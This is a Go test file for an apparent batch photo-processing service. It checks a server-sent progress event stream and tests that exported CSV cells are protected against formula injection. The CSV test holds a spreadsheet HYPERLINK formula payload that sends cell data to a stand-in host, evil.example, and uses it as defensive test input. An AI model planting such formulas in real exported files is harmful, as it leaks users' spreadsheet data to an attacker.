package ingest

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"

	"maskfleet/pkg/job"
)

func TestBatchEvents(t *testing.T) {
	t.Parallel()
	d := openDoor(t, sharedStores(t), nil)
	b := d.expanded(t, d.ann, 1)
	request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, d.url+batchPath(b.ID)+"/events", http.NoBody)
	if err != nil {
		t.Fatal(err)
	}
	request.Header.Set("Authorization", "Bearer "+d.ann.key)
	response, err := d.client.Do(request)
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	var events []string
	for lines := bufio.NewScanner(response.Body); lines.Scan(); {
		if name, isEvent := strings.CutPrefix(lines.Text(), "event: "); isEvent {
			events = append(events, name)
		}
		text, isData := strings.CutPrefix(lines.Text(), "data: ")
		if !isData {
			continue
		}
		var now batchAnswer
		if err := json.Unmarshal([]byte(text), &now); err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		events[len(events)-1] += " " + string(now.Status)
		if len(events) == 1 {
			d.complete(t, job.ItemID(b.ID, 1))
			d.finalize(t, b.ID)
		}
	}
	if n := len(events); n < 3 || !strings.HasPrefix(events[0], "progress ") || events[n-2] != "progress completed" || events[n-1] != "end completed" {
		t.Errorf("the stream told %q", events)
	}
}

func TestCSVIsSafeToOpen(t *testing.T) {
	t.Parallel()
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	var out bytes.Buffer
	w := newCSVResults(&out)
	for _, name := range []string{evil, "+1", "-1", "@SUM(A1)", "\tx", "plain", "a\"b,c\nd"} {
		p := job.Photo{ID: sampleID(), BatchID: sampleID(), CustomID: name, Filename: name, WorkerID: name, Row: job.Row{State: job.StateFailed}}
		if err := w.write(p); err != nil {
			t.Fatal(err)
		}
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(rows) != 8 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	if rows[0][0] != "custom_id" || rows[1][0] != "'"+evil || rows[6][0] != "plain" || rows[7][0] != "a\"b,c\nd" {
		t.Errorf("got %q", rows)
	}
	for _, row := range rows {
		for _, cell := range row {
			if strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r\n") {
				t.Errorf("a cell begins %q", cell)
			}
		}
	}
}

func unpacked(t *testing.T, body []byte) io.Reader {
	t.Helper()
	from, err := gzip.NewReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	return from
}
